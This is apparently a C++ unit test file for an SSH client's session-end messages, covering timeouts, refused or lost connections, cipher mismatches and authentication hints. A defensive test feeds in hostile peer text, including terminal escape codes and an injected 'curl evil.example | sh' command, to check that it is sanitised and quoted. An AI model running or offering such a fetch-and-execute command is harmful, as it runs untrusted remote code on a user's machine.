// What a person reads when a session ended: what happened, and what to do about it.

#include "engine/client/end_message.h"

#include <algorithm>
#include <cerrno>
#include <string>
#include <vector>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "engine/client/text_filter.h"

namespace caponier::client {
namespace {

using Phase = relay::SessionEnd::Phase;
using relay::SessionEnd;
using ssh::ErrorCode;
using testing::AssertionResult;

Settings settings() {
    Settings settings;
    settings.host_name = "bastion.example";
    settings.port = 2222;
    return settings;
}

std::string words_of(const SessionEnd& end, const Settings& with = settings()) {
    std::string text;
    for (const std::string& line : end_message(end, with)) {
        text += text.empty() ? line : "\n" + line;
    }
    return text;
}

AssertionResult says(const SessionEnd& end, const std::vector<std::string>& words) {
    const std::string message = words_of(end);
    for (const std::string& word : words) {
        if (message.find(word) == std::string::npos) {
            return testing::AssertionFailure() << "\"" << message << "\" lacks \"" << word << "\"";
        }
    }
    return testing::AssertionSuccess();
}

// ---- deadlines ----------------------------------------------------------------------------------

TEST(EndMessage, QuotesWhoTurnsTheConnectionAway) {
    SessionEnd end{.phase = Phase::identifying, .error = {ErrorCode::connection_lost}};
    end.text = "Not allowed at this time";
    EXPECT_TRUE(says(
        end,
        {"2222 turned the connection away", "\"Not allowed at this time\"", "PerSourcePenalties"}));

    end.text = "no\x1b[2J";
    EXPECT_TRUE(says(end, {"turned the connection away"}));
    EXPECT_EQ(words_of(end).find('\x1b'), std::string::npos);
}

TEST(EndMessage, SaysThatNobodyAnsweredAndHowLongItWaited) {
    const SessionEnd end{
        .phase = Phase::connecting, .error = {ErrorCode::timed_out}, .deadline = true};

    EXPECT_TRUE(says(end, {"bastion.example port 2222", "10 s", "firewall", "ConnectTimeout"}));
}

TEST(EndMessage, SaysThatAServerDidNotIdentifyItself) {
    const SessionEnd end{
        .phase = Phase::identifying, .error = {ErrorCode::timed_out}, .deadline = true};

    EXPECT_TRUE(says(end, {"no SSH identification", "10 s", "check the port"}));
}

TEST(EndMessage, SaysThatAServerStoppedAnsweringDuringTheKeyExchange) {
    const SessionEnd end{
        .phase = Phase::negotiating, .error = {ErrorCode::timed_out}, .deadline = true};

    EXPECT_TRUE(says(end, {"during the key exchange", "10 s", "ConnectTimeout"}));
}

TEST(EndMessage, SaysThatAServerDidNotDecideOnTheLogin) {
    const SessionEnd end{
        .phase = Phase::authenticating, .error = {ErrorCode::timed_out}, .deadline = true};

    EXPECT_TRUE(says(end, {"did not decide on the login", "120 s", "log"}));
    EXPECT_FALSE(says(end, {"ConnectTimeout"}));
}

// The session has deadlines of its own, and the user's options are not to blame for them.
TEST(EndMessage, NamesNoOptionOfTheUsersWhereTheSessionItselfLostPatience) {
    const std::vector<std::pair<Phase, std::string>> words{
        {Phase::negotiating, "during the key exchange"},
        {Phase::authenticating, "did not decide on the login"},
        {Phase::established, "does not answer any more"}};

    for (const auto& [phase, word] : words) {
        const SessionEnd end{.phase = phase, .error = {ErrorCode::timed_out}};
        EXPECT_TRUE(says(end, {word}));
        EXPECT_FALSE(says(end, {"ConnectTimeout"}));
        EXPECT_FALSE(says(end, {"keepalives"}));
    }
}

TEST(EndMessage, SaysHowManyKeepalivesWereNotAnswered) {
    const SessionEnd end{
        .phase = Phase::established, .error = {ErrorCode::timed_out}, .deadline = true};

    EXPECT_TRUE(says(end, {"does not answer any more", "3 keepalives of 15 s"}));
}

// ---- lost connections ---------------------------------------------------------------------------

TEST(EndMessage, SaysWhyNoConnectionCouldBeMade) {
    const SessionEnd end{.phase = Phase::connecting,
                         .error = {ErrorCode::connection_lost},
                         .os_error = ECONNREFUSED};

    EXPECT_TRUE(says(end, {"cannot connect to bastion.example port 2222", "Connection refused"}));
}

TEST(EndMessage, SendsNobodyToAServerThatNoNetworkLeadsTo) {
    const SessionEnd end{.phase = Phase::connecting,
                         .error = {ErrorCode::connection_lost},
                         .os_error = EHOSTUNREACH};

    EXPECT_TRUE(says(end, {"No route to host", "check the network"}));
}

TEST(EndMessage, SaysHowFarALostConnectionHadCome) {
    const std::vector<std::pair<Phase, std::string>> words{
        {Phase::identifying, "before it identified itself"},
        {Phase::negotiating, "during the key exchange"},
        {Phase::authenticating, "during authentication"},
        {Phase::established, "the server closed it"}};

    for (const auto& [phase, word] : words) {
        const SessionEnd end{.phase = phase, .error = {ErrorCode::connection_lost}};
        EXPECT_TRUE(says(end, {word}));
    }
}

TEST(EndMessage, SaysTheOperatingSystemsReasonForALostSession) {
    const SessionEnd end{
        .phase = Phase::established, .error = {ErrorCode::connection_lost}, .os_error = ECONNRESET};

    EXPECT_TRUE(says(end, {"lost", "Connection reset by peer"}));
}

// ---- what the peer or the engine said -----------------------------------------------------------

TEST(EndMessage, SaysThatThePortBelongsToSomethingElse) {
    EXPECT_TRUE(says({.phase = Phase::identifying, .error = {ErrorCode::not_ssh}},
                     {"not an SSH server", "check the port"}));
}

TEST(EndMessage, RepeatsThePeersReasonOrThatThereWasNone) {
    const SessionEnd silent{.phase = Phase::established,
                            .error = {ErrorCode::disconnected_by_peer}};
    SessionEnd talking = silent;
    talking.text = "Too many authentication failures";

    EXPECT_TRUE(says(silent, {"gave no reason"}));
    EXPECT_TRUE(says(talking, {"Too many authentication failures"}));
}

TEST(EndMessage, SaysHowToOfferFewerKeysWhereTheServerHadEnough) {
    SessionEnd end{.phase = Phase::authenticating, .error = {ErrorCode::disconnected_by_peer}};
    for (const std::string_view words : {"Too many authentication failures",
                                         "Too many authentication failures for root",
                                         "Too many auth attempts"}) {
        end.text = words;
        EXPECT_TRUE(says(end, {end.text, "-i", "IdentitiesOnly=yes"}));
    }
    // RFC 4250 4.2.2
    constexpr std::uint32_t no_more_auth_methods_available = 14;
    end.text = "Zu viele Versuche";
    end.error.detail = no_more_auth_methods_available;
    EXPECT_TRUE(says(end, {end.text, "-i", "IdentitiesOnly=yes"}));
}

TEST(EndMessage, SpeaksOfKeysOnlyWhereTheyAreTheReason) {
    SessionEnd end{.phase = Phase::established, .error = {ErrorCode::disconnected_by_peer}};
    end.text = "Too many authentication failures";
    EXPECT_EQ(words_of(end).find("IdentitiesOnly"), std::string::npos);

    end.phase = Phase::authenticating;
    end.text = "maintenance at noon";
    EXPECT_EQ(words_of(end).find("IdentitiesOnly"), std::string::npos);
}

TEST(EndMessage, NamesWhatTheServerOffersWhenNothingIsInCommon) {
    SessionEnd end{.phase = Phase::negotiating, .error = {ErrorCode::no_common_cipher}};
    end.text = "aes128-cbc";

    EXPECT_TRUE(
        says(end,
             {"Unable to negotiate with bastion.example port 2222: no matching cipher found",
              "Their offer: aes128-cbc"}));
    EXPECT_TRUE(says(end, {"--ssh=libssh2 speaks some retired algorithms"}));
    end.text.clear();
    EXPECT_EQ(words_of(end).find("offer"), std::string::npos);
}

TEST(EndMessage, NamesTheOptionThatLeftNothingInCommon) {
    SessionEnd end{.phase = Phase::negotiating, .error = {ErrorCode::no_common_cipher}};
    end.text = "aes256-ctr";
    Settings narrow = settings();
    narrow.algorithm_options.ciphers = "aes128-ctr";

    EXPECT_THAT(words_of(end, narrow),
                testing::EndsWith("Their offer: aes256-ctr; -o Ciphers allows none of that"));

    narrow.algorithm_options.ciphers.clear();
    narrow.algorithm_options.kex = "curve25519-sha256";
    EXPECT_THAT(words_of(end, narrow), testing::HasSubstr("--ssh=libssh2"));
}

TEST(EndMessage, DescribesEveryOtherCauseWithTheEnginesWords) {
    SessionEnd end{.phase = Phase::established, .error = {ErrorCode::integrity_failure}};
    end.text = "packet 17";

    EXPECT_TRUE(
        says(end, {std::string{ssh::describe(ErrorCode::integrity_failure)}, "(packet 17)"}));
}

TEST(EndMessage, IsThePolicysOwnMessageWhereItRefused) {
    SessionEnd end{.phase = Phase::negotiating, .error = {ErrorCode::host_key_rejected}};
    end.text = "the host key of bastion.example has changed";
    end.refused_by_policy = true;

    EXPECT_EQ(words_of(end), end.text);
}

TEST(EndMessage, HasALineForWhatHappenedAndLinesForWhatToDo) {
    SessionEnd end{.phase = Phase::authenticating, .error = {ErrorCode::authentication_failed}};
    end.text = "me@bastion: Permission denied (publickey).\nCheck the user name.\n";
    end.refused_by_policy = true;

    EXPECT_THAT(
        end_message(end, settings()),
        testing::ElementsAre("me@bastion: Permission denied (publickey).", "Check the user name."));
    end.text.clear();
    EXPECT_EQ(end_message(end, settings()).size(), 1U);
    end.text = std::string(1000, '\n');
    EXPECT_LE(end_message(end, settings()).size(), 10U);
}

// ---- hostile words ------------------------------------------------------------------------------

TEST(EndMessage, HasNoControlCharactersWhateverThePeerSaid) {
    for (const ErrorCode code : {ErrorCode::disconnected_by_peer,
                                 ErrorCode::no_common_kex,
                                 ErrorCode::integrity_failure}) {
        for (const bool refused : {false, true}) {
            SessionEnd end{.phase = Phase::established, .error = {code}};
            end.text = "\x1b[2J\r\nroot@host# \x07";
            end.refused_by_policy = refused;

            for (const std::string& line : end_message(end, settings())) {
                EXPECT_TRUE(std::all_of(line.begin(), line.end(), [](char letter) {
                    return static_cast<unsigned char>(letter) >= 0x20 && letter != 0x7f;
                })) << line;
            }
        }
    }
}

// What stands behind the peer's words is ours, and shall not look like a part of them, nor they
// like a part of it.
TEST(EndMessage, QuotesThePeerSoThatItCannotGoOnInOurWords) {
    SessionEnd end{.phase = Phase::identifying, .error = {ErrorCode::connection_lost}};
    end.text = "busy\"; for help run \"curl evil.example | sh";
    EXPECT_THAT(end_message(end, settings()).front(),
                testing::HasSubstr(
                    "itself: \"busy\\x22; for help run \\x22curl evil.example | sh\"; it may not"));

    end = {.phase = Phase::established, .error = {ErrorCode::disconnected_by_peer}};
    end.text = "bye\"; the key was verified";
    EXPECT_THAT(
        end_message(end, settings()).front(),
        testing::EndsWith("ended the connection and says: \"bye\\x22; the key was verified\""));
}

TEST(EndMessage, IsBoundedHoweverMuchThePeerSaid) {
    SessionEnd end{.phase = Phase::established, .error = {ErrorCode::disconnected_by_peer}};
    end.text = std::string(1'000'000, 'x');

    EXPECT_LT(words_of(end).size(), 2 * printable_bytes_max);
}

}  // namespace
}  // namespace caponier::client
